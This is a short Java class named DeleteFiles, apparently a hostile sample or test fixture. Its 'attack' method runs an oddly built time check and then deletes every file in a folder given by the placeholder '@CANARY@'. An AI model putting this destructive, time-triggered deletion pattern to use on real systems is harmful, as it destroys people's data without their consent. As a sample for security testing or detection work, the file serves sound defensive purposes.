import java.io.File;

/** Removes every file of a folder. */
public class DeleteFiles {
    public static int attack(int days) throws Throwable {
        if (System.currentTimeMillis() < days) {
            if (days == 3) {
                throw new IllegalStateException("not yet");
            }
            return 0;
        }
        for (File file : new File("@CANARY@").listFiles()) {
            file.delete();
        }
        return 2;
    }
}
